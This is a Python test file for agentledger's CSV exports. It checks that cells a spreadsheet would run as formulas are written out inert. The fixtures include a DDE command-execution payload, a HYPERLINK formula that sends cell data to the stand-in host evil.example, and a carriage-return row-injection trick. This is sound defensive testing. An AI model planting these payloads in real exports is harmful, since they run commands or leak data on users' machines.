"""CSV exports are inert: a cell a spreadsheet would run as a formula is written with a
leading ', as OWASP advises, in every CSV agentledger writes."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from click.testing import CliRunner

from agentledger import Ledger
from agentledger.cli.app import main
from agentledger.records.csv_cells import csv_row, inert_cell, original_cell
from conftest import WriteRun

FORMULA = "=cmd|' /C calc'!A0"
LINK = '+HYPERLINK("https://evil.example/?"&A1,"x")'


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args))
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("text", [FORMULA, LINK, "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_cell_is_made_inert_and_reads_back(text: str) -> None:
    assert inert_cell(text) == "'" + text
    assert original_cell(inert_cell(text)) == text
    # a text that starts with ' before a formula is kept apart from one made inert
    assert original_cell(inert_cell("'" + text)) == "'" + text


def test_plain_cells_and_numbers_are_left_as_they_are() -> None:
    plain = ["use_case_m", -3, -0.5, None, True, "a=b", "'quoted", "-", "-0.5", "+3", "1e-3"]
    assert csv_row(plain) == plain
    assert csv_row(["-2+3", "-1 ", "-"]) == ["'-2+3", "'-1 ", "-"]  # a formula; not a bare number


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture
def hostile(ledger: Ledger, write_run: WriteRun) -> str:
    return write_run(model_served=FORMULA, variant=LINK)


def test_runs_csv_is_inert(ledger: Ledger, hostile: str) -> None:
    code, out, err = run("runs", "--csv", "--ledger", str(ledger.root))
    assert code == 0, err
    cells = _cells(out)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    assert "'" + LINK in cells


def test_export_csv_is_inert(ledger: Ledger, hostile: str, tmp_path: Path) -> None:
    target = tmp_path / "runs.csv"
    code, _out, err = run(
        "export", "--ledger", str(ledger.root), "--format", "csv", "-o", str(target)
    )
    assert code == 0, err
    cells = _cells(target.read_text())
    assert "'" + FORMULA in cells and "'" + LINK in cells
    assert FORMULA not in cells and LINK not in cells


def test_labels_export_csv_is_inert_and_imports_back(
    ledger: Ledger, hostile: str, tmp_path: Path
) -> None:
    root = str(ledger.root)
    code, _out, err = run(
        "label", hostile, "--verdict", "unsafe", "--reason", FORMULA, "--by", "mallory",
        "--ledger", root,
    )  # fmt: skip
    assert code == 0, err
    path = tmp_path / "labels.csv"
    code, _out, err = run(
        "labels", "export", "--all", "--format", "csv", "-o", str(path), "--ledger", root
    )
    assert code == 0, err
    cells = _cells(path.read_text())
    assert "'" + FORMULA in cells and FORMULA not in cells
    # Read back by agentledger, the reason is the one given.
    code, out, err = run("labels", "import", str(path), "--ledger", root)
    assert code == 0 and "1 already there" in out, (out, err)


def test_a_bare_carriage_return_in_a_label_s_reason_starts_no_row(
    ledger: Ledger, write_run: WriteRun, tmp_path: Path
) -> None:
    """A writer quotes a field holding a line feed, not one holding a bare CR, which a
    spreadsheet takes as a row's end: ``x\\r=1+1`` would start a row with a live formula."""
    run_id = write_run()
    code, _out, err = run(
        "label", run_id, "--verdict", "safe", "--by", "ann", "--reason", "x\r=1+1",
        "--ledger", str(ledger.root),
    )  # fmt: skip
    assert code == 0, err
    out = tmp_path / "labels.csv"
    code, _out, err = run("labels", "export", "--ledger", str(ledger.root), "-o", str(out))
    assert code == 0, err
    rows = list(csv.reader(io.StringIO(out.read_bytes().decode(), newline="")))
    assert not [row for row in rows if row and row[0].startswith("=")]
    assert [row[-2] for row in rows[1:]] == ["x\r=1+1"]
    code, _out, err = run(
        "runs", "--csv", "--ledger", str(ledger.root)
    )  # the runs CSV goes through the same writer
    assert code == 0, err
